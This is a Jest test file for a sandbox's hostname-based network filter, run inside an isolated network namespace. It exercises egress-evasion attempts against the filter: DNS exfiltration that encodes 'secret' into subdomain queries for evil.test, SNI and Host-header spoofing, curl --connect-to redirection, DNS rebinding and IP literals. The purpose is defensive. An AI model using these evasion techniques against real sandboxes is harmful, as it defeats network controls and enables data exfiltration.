'use strict';

// Network by name (issue 21) with real clients: curl, git, npm, Python's urllib, Node's fetch and
// raw sockets run under sandbox.exec inside the network world (test/helpers/net-world.js), whose
// servers sit in a network namespace of their own behind a veth pair: nothing leaves the machine.
// Every refusal also reads the servers' log to show the request never reached them. Each client
// first runs with `network: true` (the command shares the world's network and reaches the servers
// directly): the control that shows the client, the names and the certificates work, and that the
// attack would reach its target without the judge.
const { testNeeding } = require('./helpers');
const { startWorld, worldNeeds } = require('./helpers/net-world');

jest.setTimeout(60_000);

const HOSTS = {
  'registry.test': 'server',
  'git.test': 'server',
  'evil.test': 'server',
  'other.test': 'server',
  'echo.test': 'server',
  'example.test': 'server',
  'api.example.test': 'server',
  'blocked.example.test': 'server',
  'rebind.test': '10.0.0.7',
  'loop.test': '127.0.0.1',
};
const SERVER_IP = '198.51.100.2';
const PACKAGE = 'hello-msb';
const POLICY_403 = /Forbidden by mount-sandbox network policy: /;

const filtered = (allow, deny) => ({ network: deny ? { allow, deny } : { allow } });
const sh = (script) => ['sh', '-c', script];
const node = (code) => ['node', '-e', code];
const hello = (host, path, kind) => `hello from ${host} GET ${path} over ${kind}`;

let world;
beforeAll(async () => {
  if (worldNeeds() === null) world = await startWorld({ hosts: HOSTS });
}, 90_000);
afterAll(async () => {
  if (world) await world.stop();
});
beforeEach(async () => {
  if (world) await world.clearLog();
});

const requestsTo = (log, host) => log.filter((e) => e.host === host || e.sni === host);

// The server saw nothing at all: no connection, no request, no datagram, nothing on the runner's
// loopback.
async function expectServersSawNothing() {
  expect(await world.serverLog()).toEqual([]);
}

function expectAllowed(result, host, port) {
  expect(result.enforcement.network).toBe('filtered');
  expect(result.network.allowed).toEqual(expect.arrayContaining([expect.objectContaining({ host, port })]));
  const entry = result.network.allowed.find((e) => e.host === host && e.port === port);
  expect(entry.connections).toBeGreaterThan(0);
  expect(entry.bytes).toBeGreaterThan(0);
}

// Refused, said so in result.network.denied (with the reason when given) and in a note on stderr.
function expectRefused(result, host, port, reason) {
  expect(result.enforcement.network).toBe('filtered');
  const match = { host, port, ...(reason ? { reason } : {}) };
  expect(result.network.denied).toEqual(expect.arrayContaining([expect.objectContaining(match)]));
  expect(result.network.allowed.filter((e) => e.host === host && e.port === port)).toEqual([]);
  expect(result.stderr).toContain(host);
}

// A node snippet: fetch(url), prints the body or "fetch error <code>".
const fetchScript = (url) => `
  fetch(${JSON.stringify(url)}).then((r) => r.text()).then((t) => console.log(t.trim()),
    (e) => { console.log('fetch error ' + ((e.cause && e.cause.code) || e.message)); process.exitCode = 3; });`;

// A node snippet: connects to host:port, sends "ping", prints what comes back or the error.
const tcpScript = (host, port) => `
  const s = require('net').connect({ host: ${JSON.stringify(host)}, port: ${port} }, () => s.write('ping'));
  s.setTimeout(5000, () => { console.log('tcp timeout'); s.destroy(); process.exitCode = 3; });
  s.on('data', (d) => { console.log('echo ' + d); s.destroy(); });
  s.on('error', (e) => { console.log('tcp error ' + e.code); process.exitCode = 3; });`;

// A node snippet: TLS to host:443 with the SNI `servername`, an HTTP GET over it.
const tlsScript = (host, servername) => `
  const s = require('tls').connect({ host: ${JSON.stringify(host)}, port: 443, servername: ${JSON.stringify(servername)} }, () => {
    s.write('GET /sni HTTP/1.1\\r\\nHost: ${servername}\\r\\nConnection: close\\r\\n\\r\\n');
  });
  let out = ''; s.on('data', (d) => { out += d; });
  s.on('end', () => console.log(s.authorized ? 'tls answer ' + String(out.split('\\r\\n\\r\\n')[1]).trim() : 'tls closed before its handshake'));
  s.on('error', (e) => { console.log('tls error ' + e.code); process.exitCode = 3; });`;

// A node snippet: CONNECT host:443 through the proxy the sandbox names in HTTP_PROXY, then TLS over
// the tunnel with the SNI `servername`.
const connectSniScript = (host, servername) => `
  const net = require('net'), tls = require('tls');
  const proxy = new URL(process.env.HTTP_PROXY || 'http://127.0.0.1:1');
  const c = net.connect({ host: proxy.hostname, port: Number(proxy.port) }, () => c.write('CONNECT ${host}:443 HTTP/1.1\\r\\nHost: ${host}:443\\r\\n\\r\\n'));
  c.on('error', (e) => { console.log('proxy error ' + e.code); process.exitCode = 3; });
  c.once('data', (d) => {
    const status = String(d).split('\\r\\n')[0];
    console.log('proxy said ' + status);
    if (!/ 200 /.test(status)) { c.destroy(); process.exitCode = 3; return; }
    const s = tls.connect({ socket: c, servername: ${JSON.stringify(servername)} }, () => {
      s.write('GET /sni HTTP/1.1\\r\\nHost: ${servername}\\r\\nConnection: close\\r\\n\\r\\n');
    });
    let out = ''; s.on('data', (x) => { out += x; });
    s.on('end', () => console.log(s.authorized ? 'tls answer ' + String(out.split('\\r\\n\\r\\n')[1]).trim() : 'tls closed before its handshake'));
    s.on('error', (e) => { console.log('tls error ' + e.code); process.exitCode = 3; });
  });`;

// A node snippet: one UDP datagram to each host, port 7000, one after the other.
const udpScript = (...hosts) => `
  const s = require('dgram').createSocket('udp4');
  const hosts = ${JSON.stringify(hosts)};
  const next = () => {
    if (hosts.length === 0) { s.close(); return; }
    s.send('udp-ping', 7000, hosts.shift(), (e) => { console.log(e ? 'udp error ' + e.code : 'udp sent'); next(); });
  };
  next();`;

const npmInstall = [
  `npm install --registry http://registry.test/ --cache /workspace/.npm-cache --no-audit --no-fund --no-update-notifier ${PACKAGE}`,
  `node -e "console.log(require('${PACKAGE}'))"`,
].join(' && ');

const pythonGet = (url) => ['python3', '-c',
  `import urllib.request; print(urllib.request.urlopen(${JSON.stringify(url)}, timeout=10).read().decode().strip())`];

// Each client, once with the host's network (here: the world's) and once filtered by name.
const MODES = [
  ['network: true (control)', () => ({ network: true })],
  ['filtered', (allow) => filtered(allow)],
];

describe.each(MODES)('allowed destinations, %s', (mode, options) => {
  const isFiltered = mode === 'filtered';
  const check = (result, host, port) => {
    if (isFiltered) expectAllowed(result, host, port);
    else expect(result.network ?? null).toBeNull();
  };

  testNeeding(worldNeeds('curl'))('curl over http and https through the proxy variables', async () => {
    const result = await world.exec(sh('curl -sS -f http://registry.test/c1 && curl -sS -f https://registry.test/c2'),
      options(['registry.test']));
    expect(result.stderr).toBe('');
    expect(result.stdout).toBe(`${hello('registry.test', '/c1', 'http')}\n${hello('registry.test', '/c2', 'https')}\n`);
    expect(result.exitCode).toBe(0);
    check(result, 'registry.test', 80);
    check(result, 'registry.test', 443);
    const log = await world.serverLog();
    expect(log.filter((e) => e.method).map((e) => [e.host, e.path, e.kind]))
      .toEqual([['registry.test', '/c1', 'http'], ['registry.test', '/c2', 'https']]);
  });

  testNeeding(worldNeeds('curl'))("curl --noproxy '*' over http and https (by name, no proxy)", async () => {
    const result = await world.exec(
      sh("curl -sS -f --noproxy '*' http://api.example.test/n1 && curl -sS -f --noproxy '*' https://api.example.test/n2"),
      options(['*.example.test']));
    expect(result.stdout).toBe(`${hello('api.example.test', '/n1', 'http')}\n${hello('api.example.test', '/n2', 'https')}\n`);
    expect(result.exitCode).toBe(0);
    check(result, 'api.example.test', 80);
    check(result, 'api.example.test', 443);
    expect(requestsTo(await world.serverLog(), 'api.example.test').filter((e) => e.method)).toHaveLength(2);
  });

  testNeeding(worldNeeds('git'))('git clone over http and https', async () => {
    const result = await world.exec(sh([
      'git clone -q http://git.test/repo.git /tmp/a && cat /tmp/a/README',
      'git clone -q https://git.test/repo.git /tmp/b && cat /tmp/b/README',
    ].join(' && ')), options(['git.test']));
    expect(result.stderr).toBe('');
    expect(result.stdout).toBe('cloned from git.test\ncloned from git.test\n');
    expect(result.exitCode).toBe(0);
    check(result, 'git.test', 80);
    check(result, 'git.test', 443);
    const log = await world.serverLog();
    expect(log.filter((e) => e.host === 'git.test' && e.kind === 'http').length).toBeGreaterThan(2);
    expect(log.filter((e) => e.host === 'git.test' && e.kind === 'https').length).toBeGreaterThan(2);
  });

  testNeeding(worldNeeds('npm'))('npm install from the registry, with an empty cache in the workspace', async () => {
    const result = await world.exec(sh(npmInstall), options(['registry.test']));
    expect(result.stdout).toContain('hello from the registry');
    expect(result.exitCode).toBe(0);
    check(result, 'registry.test', 80);
    const paths = (await world.serverLog()).filter((e) => e.host === 'registry.test' && e.method).map((e) => e.path);
    expect(paths).toEqual(expect.arrayContaining([`/${PACKAGE}`, `/${PACKAGE}/-/${PACKAGE}-1.0.0.tgz`]));
  });

  testNeeding(worldNeeds('python3'))("Python's urllib over http and https", async () => {
    const a = await world.exec(pythonGet('http://registry.test/py1'), options(['registry.test']));
    expect(a.stdout).toBe(`${hello('registry.test', '/py1', 'http')}\n`);
    expect(a.exitCode).toBe(0);
    check(a, 'registry.test', 80);
    const b = await world.exec(pythonGet('https://registry.test/py2'), options(['registry.test']));
    expect(b.stdout).toBe(`${hello('registry.test', '/py2', 'https')}\n`);
    expect(b.exitCode).toBe(0);
    check(b, 'registry.test', 443);
  });

  testNeeding(worldNeeds())("Node's fetch with no configuration (Node 20 ignores the proxy variables)", async () => {
    const result = await world.exec(node(`${fetchScript('https://api.example.test/f1')}${fetchScript('http://registry.test/f2')}`),
      options(['api.example.test', 'registry.test']));
    expect(result.stdout.split('\n').sort()).toEqual(['', hello('api.example.test', '/f1', 'https'), hello('registry.test', '/f2', 'http')]);
    expect(result.exitCode).toBe(0);
    check(result, 'api.example.test', 443);
    check(result, 'registry.test', 80);
  });

  testNeeding(worldNeeds())('a raw TCP client to echo.test:7000', async () => {
    const result = await world.exec(node(tcpScript('echo.test', 7000)), options(['echo.test:7000']));
    expect(result.stdout).toBe('echo ping\n');
    expect(result.exitCode).toBe(0);
    check(result, 'echo.test', 7000);
    expect((await world.serverLog()).filter((e) => e.kind === 'echo-data').map((e) => e.path)).toEqual(['ping']);
  });
});

describe('what the attacks would reach without the judge (network: true, controls for the refusals)', () => {
  testNeeding(worldNeeds('curl'))('a name resolving to 10.0.0.7 or 127.0.0.1 reaches a server there', async () => {
    const result = await world.exec(sh('curl -sS http://rebind.test/r; echo; curl -sS http://loop.test/l'), { network: true });
    expect(result.stdout).toBe(`${hello('rebind.test', '/r', 'http')}\n\nloopback trap`);
    const log = await world.serverLog();
    expect(log.filter((e) => e.local === '10.0.0.7')).toHaveLength(1);
    expect(log.filter((e) => e.kind === 'loopback-trap')).toHaveLength(1);
  });

  testNeeding(worldNeeds())('TLS to registry.test with the SNI evil.test reaches the server (its certificate names both)', async () => {
    const result = await world.exec(node(tlsScript('registry.test', 'evil.test')), { network: true });
    expect(result.stdout).toBe(`tls answer ${hello('evil.test', '/sni', 'https')}\n`);
    expect((await world.serverLog()).filter((e) => e.sni === 'evil.test').length).toBeGreaterThan(0);
  });

  testNeeding(worldNeeds())('UDP to the server arrives', async () => {
    const result = await world.exec(node(udpScript(SERVER_IP)), { network: true });
    expect(result.stdout).toBe('udp sent\n');
    for (let i = 0; i < 20; i++) {
      if ((await world.serverLog()).some((e) => e.kind === 'udp')) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    expect((await world.serverLog()).filter((e) => e.kind === 'udp').map((e) => e.path)).toEqual(['udp-ping']);
  });

  testNeeding(worldNeeds('curl'))('a Host header naming evil.test on a request to registry.test reaches the server as evil.test', async () => {
    const result = await world.exec(sh("curl -sS -H 'Host: evil.test' http://registry.test/h"), { network: true });
    expect(result.stdout).toBe(`${hello('evil.test', '/h', 'http')}\n`);
    expect(requestsTo(await world.serverLog(), 'evil.test')).toHaveLength(1);
  });

  testNeeding(worldNeeds())('a DNS query for a name reaches the nameserver (DNS exfiltration)', async () => {
    const result = await world.exec(node("require('dns').promises.resolveTxt('c2VjcmV0.evil.test').catch((e) => console.log(e.code))"), { network: true });
    expect(result.stdout).toBe('ENOTFOUND\n');
    expect((await world.serverLog()).filter((e) => e.kind === 'dns-trap').map((e) => e.host)).toEqual(['c2vjcmv0.evil.test']);
  });

  testNeeding(worldNeeds('curl'))('an IP literal reaches the server', async () => {
    const result = await world.exec(sh(`curl -sS http://${SERVER_IP}/ip`), { network: true });
    expect(result.stdout).toBe(`${hello(SERVER_IP, '/ip', 'http')}\n`);
  });
});

describe('refused destinations never reach the servers (filtered)', () => {
  testNeeding(worldNeeds('curl'))('curl to a name not allowed: 403 naming the policy (http), exit 56 (https)', async () => {
    const result = await world.exec(sh([
      "curl -sS -o /dev/null -w '%{http_code}\\n' http://evil.test/e1",
      'curl -sS -i http://evil.test/e2 | head -n 1',
      'curl -sS https://evil.test/e3; echo "https exit $?"',
    ].join('; ')), filtered(['registry.test']));
    const lines = result.stdout.split('\n');
    expect(lines[0]).toBe('403');
    expect(lines[1]).toMatch(POLICY_403);
    expect(lines[1]).toContain('evil.test:80');
    expect(result.stdout).toContain('https exit 56');
    expectRefused(result, 'evil.test', 80, 'not-allowed');
    expectRefused(result, 'evil.test', 443, 'not-allowed');
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds())("Node's fetch to a name not allowed: ENOTFOUND (the name does not resolve)", async () => {
    const result = await world.exec(node(fetchScript('https://evil.test/f')), filtered(['registry.test']));
    expect(result.stdout).toBe('fetch error ENOTFOUND\n');
    expect(result.network.denied).toEqual(expect.arrayContaining([expect.objectContaining({ host: 'evil.test' })]));
    expect(result.stderr).toContain('evil.test');
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds('curl'))('a denied name inside an allowed wildcard, while its sibling works', async () => {
    const result = await world.exec(sh([
      'curl -sS -f https://api.example.test/ok',
      'curl -sS https://blocked.example.test/no; echo "exit $?"',
      "curl -sS --noproxy '*' http://blocked.example.test/no2; echo \"noproxy exit $?\"",
    ].join('; ')), filtered(['*.example.test'], ['blocked.example.test']));
    expect(result.stdout).toContain(hello('api.example.test', '/ok', 'https'));
    expect(result.stdout).toContain('exit 56');
    expect(result.stdout).toMatch(/noproxy exit [1-9]/);
    expectRefused(result, 'blocked.example.test', 443, 'denied');
    expect(requestsTo(await world.serverLog(), 'blocked.example.test')).toEqual([]);
  });

  testNeeding(worldNeeds('curl'))('the apex of a wildcard is not allowed by it', async () => {
    const result = await world.exec(sh("curl -sS -i http://example.test/apex | head -n 1; curl -sS --noproxy '*' http://example.test/apex2; echo \"exit $?\""),
      filtered(['*.example.test']));
    expect(result.stdout).toMatch(POLICY_403);
    expect(result.stdout).toMatch(/exit [1-9]/);
    expectRefused(result, 'example.test', 80, 'not-allowed');
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds('curl'))('a port not allowed: http on 80 when only registry.test:443 is, through the proxy and without it', async () => {
    const a = await world.exec(sh("curl -sS -o /dev/null -w '%{http_code}\\n' http://registry.test/p80; curl -sS --noproxy '*' -o /dev/null -w '%{http_code}\\n' http://registry.test/p80b; echo \"exit $?\""),
      filtered(['registry.test:443']));
    expect(a.stdout).toMatch(/^403\n/);
    // Without the proxy the judge answers too where every port is redirected to it
    // (test/network-every-port.test.js); elsewhere nothing listens on 80 for this name.
    expect(a.stdout).toMatch(a.enforcement.layers.includes('network-every-port') ? /\n403\nexit 0/ : /exit [1-9]/);
    expectRefused(a, 'registry.test', 80, 'not-allowed');
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds('curl'))('names resolving to 10.0.0.7 and 127.0.0.1 are refused as private (DNS rebinding)', async () => {
    const result = await world.exec(sh([
      'curl -sS -i http://rebind.test/r1 | head -n 1',
      'curl -sS -i http://loop.test/l1 | head -n 1',
      "curl -sS --noproxy '*' -o /dev/null -w 'captured %{http_code}\\n' http://rebind.test/r2",
      "curl -sS --noproxy '*' https://loop.test/l2; echo \"loop exit $?\"",
    ].join('; ')), filtered(['rebind.test', 'loop.test']));
    const [first, second] = result.stdout.split('\n');
    expect(first).toMatch(POLICY_403);
    expect(first).toContain('rebind.test:80');
    expect(second).toMatch(POLICY_403);
    expect(second).toContain('loop.test:80');
    expect(result.stdout).toContain('captured 403\n');
    expect(result.stdout).toMatch(/loop exit [1-9]/);
    expectRefused(result, 'rebind.test', 80, 'private-address');
    expectRefused(result, 'loop.test', 80, 'loopback-address');
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds())('TLS to an allowed name with the SNI evil.test, captured by name and through CONNECT', async () => {
    const captured = await world.exec(node(tlsScript('registry.test', 'evil.test')), filtered(['registry.test']));
    expect(captured.stdout).not.toContain('tls answer');
    expect(captured.exitCode).not.toBe(0);
    const tunnelled = await world.exec(node(connectSniScript('registry.test', 'evil.test')), filtered(['registry.test']));
    expect(tunnelled.stdout).not.toContain('tls answer');
    expect(tunnelled.exitCode).not.toBe(0);
    const log = await world.serverLog();
    expect(log.filter((e) => e.sni === 'evil.test' || e.host === 'evil.test')).toEqual([]);
    expect(log.filter((e) => e.kind === 'https')).toEqual([]);
  });

  testNeeding(worldNeeds('curl'))("curl --connect-to evil.test's name onto an allowed name", async () => {
    const result = await world.exec(sh('curl -sS --connect-to evil.test:443:registry.test:443 https://evil.test/ct; echo "exit $?"'),
      filtered(['registry.test']));
    expect(result.stdout).toMatch(/exit [1-9]/);
    expect(requestsTo(await world.serverLog(), 'evil.test')).toEqual([]);
  });

  testNeeding(worldNeeds('curl'))('a Host header naming evil.test on a request to an allowed name (proxy and capture) reaches the server as the allowed name', async () => {
    const result = await world.exec(sh([
      "curl -sS -H 'Host: evil.test' http://registry.test/h1",
      "curl -sS --noproxy '*' -H 'Host: evil.test' http://registry.test/h2",
    ].join('; ')), filtered(['registry.test']));
    const log = await world.serverLog();
    expect(requestsTo(log, 'evil.test')).toEqual([]);
    expect(result.stdout).not.toContain('hello from evil.test');
  });

  testNeeding(worldNeeds('curl'))('an IP literal through the proxy (http and CONNECT)', async () => {
    const result = await world.exec(sh([
      `curl -sS -i http://${SERVER_IP}/ip | head -n 1`,
      `curl -sS -k https://${SERVER_IP}/ip2; echo "https exit $?"`,
    ].join('; ')), filtered(['registry.test']));
    expect(result.stdout.split('\n')[0]).toMatch(POLICY_403);
    expect(result.stdout).toContain('https exit 56');
    expectRefused(result, SERVER_IP, 80);
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds())('UDP to the server or to an allowed name goes nowhere', async () => {
    const result = await world.exec(node(udpScript(SERVER_IP, 'echo.test')), filtered(['echo.test:7000']));
    expect(result.stdout).toMatch(/^udp error ENETUNREACH\n/);
    await new Promise((r) => setTimeout(r, 300));
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds('python3'))('DNS: a name not allowed is NXDOMAIN, an allowed one a loopback address of the run', async () => {
    const script = `
      const dns = require('dns').promises;
      const show = (p) => p.then((a) => JSON.stringify(a), (e) => e.code);
      (async () => {
        console.log('resolve4 evil.test ' + await show(dns.resolve4('evil.test')));
        console.log('lookup evil.test ' + await show(dns.lookup('evil.test')));
        console.log('lookup registry.test ' + (await dns.lookup('registry.test')).address);
      })();`;
    const result = await world.exec(node(script), filtered(['registry.test']));
    expect(result.stdout).toMatch(/^resolve4 evil\.test ENOTFOUND\nlookup evil\.test ENOTFOUND\nlookup registry\.test 127\.\d+\.\d+\.\d+\n$/);
    expect(result.stdout).not.toContain('registry.test 127.0.0.1\n');
    const py = await world.exec(['python3', '-c',
      "import socket\ntry:\n  socket.getaddrinfo('evil.test', 80)\n  print('resolved')\nexcept socket.gaierror as e:\n  print('gaierror', e.errno == socket.EAI_NONAME)"],
    filtered(['registry.test']));
    expect(py.stdout).toBe('gaierror True\n');
    await expectServersSawNothing();
  });
});

describe('DNS (filtered)', () => {
  testNeeding(worldNeeds())('no query leaves the command: names not allowed, TXT, and names under allowed ones', async () => {
    const script = `
      const dns = require('dns').promises;
      const show = (p) => p.then((a) => JSON.stringify(a), (e) => e.code);
      (async () => {
        for (const name of ['c2VjcmV0.evil.test', 'c2VjcmV0.registry.test', 'c2VjcmV0']) {
          console.log(name + ' A ' + await show(dns.resolve4(name)) + ' TXT ' + await show(dns.resolveTxt(name)));
        }
      })();`;
    const result = await world.exec(node(script), filtered(['registry.test']));
    for (const name of ['c2VjcmV0.evil.test', 'c2VjcmV0.registry.test', 'c2VjcmV0']) {
      expect(result.stdout).toMatch(new RegExp(`^${name.replace(/\./g, '\\.')} A E[A-Z]+ TXT E[A-Z]+$`, 'm'));
    }
    await expectServersSawNothing();
  });
});

describe('the SOCKS5 proxy (filtered)', () => {
  testNeeding(worldNeeds('curl'))('curl through ALL_PROXY (socks5h): an allowed name answers, a name not allowed never reaches the server', async () => {
    const result = await world.exec(sh([
      'curl -sS -f --proxy "$ALL_PROXY" http://registry.test/s1',
      'curl -sS -f --proxy "$ALL_PROXY" https://registry.test/s2',
      'curl -sS --proxy "$ALL_PROXY" http://evil.test/s3; echo "socks exit $?"',
    ].join('; ')), filtered(['registry.test']));
    expect(result.stdout).toContain(`${hello('registry.test', '/s1', 'http')}\n${hello('registry.test', '/s2', 'https')}\n`);
    expect(result.stdout).toMatch(/socks exit [1-9]/);
    expectAllowed(result, 'registry.test', 80);
    expectRefused(result, 'evil.test', 80, 'not-allowed');
    const log = await world.serverLog();
    expect(requestsTo(log, 'evil.test')).toEqual([]);
    expect(log.filter((e) => e.method).map((e) => e.path)).toEqual(['/s1', '/s2']);
  });
});

describe('grants and onRequest (filtered)', () => {
  testNeeding(worldNeeds('curl'))('a grant lets one exec through; the next exec without it is refused', async () => {
    const get = sh("curl -sS -o /dev/null -w '%{http_code}\\n' http://git.test/grant");
    const granted = await world.exec(get, { ...filtered(['registry.test']), grant: { network: ['git.test'] } });
    expect(granted.stdout).toBe('200\n');
    expectAllowed(granted, 'git.test', 80);
    expect(requestsTo(await world.serverLog(), 'git.test').filter((e) => e.method)).toHaveLength(1);
    await world.clearLog();
    const after = await world.exec(get, filtered(['registry.test']));
    expect(after.stdout).toBe('403\n');
    expectRefused(after, 'git.test', 80, 'not-allowed');
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds('curl'))('a grant never goes beyond deny', async () => {
    const result = await world.exec(sh("curl -sS -o /dev/null -w '%{http_code}\\n' http://evil.test/g"),
      { ...filtered(['registry.test'], ['evil.test']), grant: { network: ['evil.test'] } });
    expect(result.stdout).toBe('403\n');
    expectRefused(result, 'evil.test', 80, 'denied');
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds('curl'))('onRequest approves one destination mid-command; others are refused; a denied entry is never asked', async () => {
    const code = (url) => `curl -sS -o /dev/null -w '%{http_code}\\n' ${url}`;
    const result = await world.exec(sh([code('http://git.test/asked'), code('http://other.test/asked'), code('http://evil.test/asked')].join('; ')),
      { ...filtered(['registry.test'], ['evil.test']), approve: ['git.test:80'] });
    expect(result.stdout).toBe('200\n403\n403\n');
    expect(result.asked).toEqual(expect.arrayContaining(['git.test:80', 'other.test:80']));
    expect(result.asked.filter((a) => a.startsWith('evil.test'))).toEqual([]);
    expectAllowed(result, 'git.test', 80);
    expectRefused(result, 'other.test', 80);
    expectRefused(result, 'evil.test', 80, 'denied');
    const log = await world.serverLog();
    expect(requestsTo(log, 'git.test').filter((e) => e.method)).toHaveLength(1);
    expect(requestsTo(log, 'other.test')).toEqual([]);
    expect(requestsTo(log, 'evil.test')).toEqual([]);
  });
});

describe("the sandbox's network (createMountSandbox's network: a ceiling and the default)", () => {
  const ceiling = { network: { allow: ['registry.test'] } };
  const get = (url) => sh(`curl -sS -o /dev/null -w '%{http_code}\\n' ${url}`);

  testNeeding(worldNeeds('curl'))('a command that names no network gets the sandbox\'s allowlist', async () => {
    const result = await world.exec(sh("curl -sS -o /dev/null -w '%{http_code}\\n' http://registry.test/d1; curl -sS -o /dev/null -w '%{http_code}\\n' http://evil.test/d2"), {}, ceiling);
    expect(result.stdout).toBe('200\n403\n');
    expectAllowed(result, 'registry.test', 80);
    expectRefused(result, 'evil.test', 80, 'not-allowed');
    expect(requestsTo(await world.serverLog(), 'evil.test')).toEqual([]);
  });

  testNeeding(worldNeeds('curl'))('a call that asks for more than the ceiling is refused before anything runs', async () => {
    await expect(world.exec(get('http://evil.test/w'), filtered(['evil.test']), ceiling))
      .rejects.toMatchObject({ name: 'PermissionEscalationError' });
    await expect(world.exec(get('http://evil.test/w'), { network: true }, ceiling))
      .rejects.toMatchObject({ name: 'PermissionEscalationError' });
    await expectServersSawNothing();
  });

  testNeeding(worldNeeds('curl'))('a grant reaches beyond the ceiling for its one call', async () => {
    const granted = await world.exec(get('http://git.test/g1'), { grant: { network: ['git.test'] } }, ceiling);
    expect(granted.stdout).toBe('200\n');
    const next = await world.exec(get('http://git.test/g2'), {}, ceiling);
    expect(next.stdout).toBe('403\n');
    expect(requestsTo(await world.serverLog(), 'git.test').filter((e) => e.method).map((e) => e.path)).toEqual(['/g1']);
  });
});

describe('the command environment and the other modes', () => {
  testNeeding(worldNeeds())('filtered: proxy variables, and the DNS stub in resolv.conf', async () => {
    const result = await world.exec(sh('env | grep -i -E "proxy=" | sort; cat /etc/resolv.conf'), filtered(['registry.test']));
    expect(result.stdout).toContain('HTTP_PROXY=http://127.0.0.1:3128\n');
    expect(result.stdout).toContain('HTTPS_PROXY=http://127.0.0.1:3128\n');
    expect(result.stdout).toContain('http_proxy=http://127.0.0.1:3128\n');
    expect(result.stdout).toContain('https_proxy=http://127.0.0.1:3128\n');
    expect(result.stdout).toContain('ALL_PROXY=socks5h://127.0.0.1:1080\n');
    expect(result.stdout).toContain('all_proxy=socks5h://127.0.0.1:1080\n');
    expect(result.stdout).toMatch(/NO_PROXY=localhost,127\.0\.0\.1,::1\n/);
    expect(result.stdout).toMatch(/NODE_USE_ENV_PROXY=1\n/);
    expect(result.stdout).toMatch(/^nameserver 127\.0\.0\.1$/m);
  });

  testNeeding(worldNeeds('curl'))('network: true shares the world as before (no judge, no proxy variables)', async () => {
    const result = await world.exec(sh('env | grep -i proxy; curl -sS http://registry.test/t'), { network: true });
    expect(result.stdout).toBe(`${hello('registry.test', '/t', 'http')}\n`);
    expect(result.enforcement.network ?? 'host').toBe('host');
    expect(result.network ?? null).toBeNull();
  });

  testNeeding(worldNeeds('curl'))('network: false (the default) reaches nothing, as before', async () => {
    const result = await world.exec(sh('env | grep -i proxy; curl -sS http://registry.test/f; echo "exit $?"; curl -sS http://198.51.100.2/f; echo "exit $?"'));
    expect(result.stdout).toBe('exit 6\nexit 7\n');
    expect(result.enforcement.network ?? 'off').toBe('off');
    expect(result.network ?? null).toBeNull();
    await expectServersSawNothing();
  });
});
